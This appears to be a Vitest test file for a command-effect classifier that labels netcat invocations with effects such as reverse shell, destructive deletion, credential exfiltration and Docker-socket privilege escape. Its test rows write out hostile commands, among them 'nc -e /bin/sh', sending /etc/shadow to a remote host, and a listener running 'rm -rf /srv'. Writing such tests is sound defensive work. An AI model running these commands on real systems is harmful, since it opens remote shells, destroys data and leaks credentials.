import { describe, expect, it } from 'vitest';
import { effectsOf } from '../../effects-of.js';

const rows: readonly (readonly [command: string, effects: readonly string[]])[] = [
  [
    'nc -e /bin/sh 10.0.0.1 4242',
    [
      'network:connect 10.0.0.1:4242',
      'execute:serve-program 10.0.0.1:4242 external',
      'execute:shell sh',
      'execute:reverse-shell nc external',
    ],
  ],
  [
    "nc -lvp 4444 -c 'rm -rf /srv'",
    ['network:listen-for-anybody :4444', 'execute:serve-program :4444 external', 'delete:remove /srv recursive force'],
  ],
  ["ncat --sh-exec 'cat' 10.0.0.1 1", ['network:connect 10.0.0.1:1', 'execute:serve-program 10.0.0.1:1 external']],
  ['nc -zv localhost 80', ['network:probe localhost:80']],
  [
    'nc 10.0.0.1 9 < /etc/shadow',
    [
      'read:read /etc/shadow sensitive',
      'network:connect 10.0.0.1:9 sensitive external',
      'network:send 10.0.0.1:9 external sensitive',
    ],
  ],
  ['nc -l 9 > out', ['write:overwrite out', 'network:listen-for-anybody :9']],
  ['nc -h', []],
  ['nc -U /var/run/docker.sock', ['network:connect /var/run/docker.sock:', 'privilege:escape /var/run/docker.sock']],
];

describe('netcat', () => {
  it.each(rows)('%s', (command, effects) => {
    expect(effectsOf(command)).toEqual(effects);
  });
});
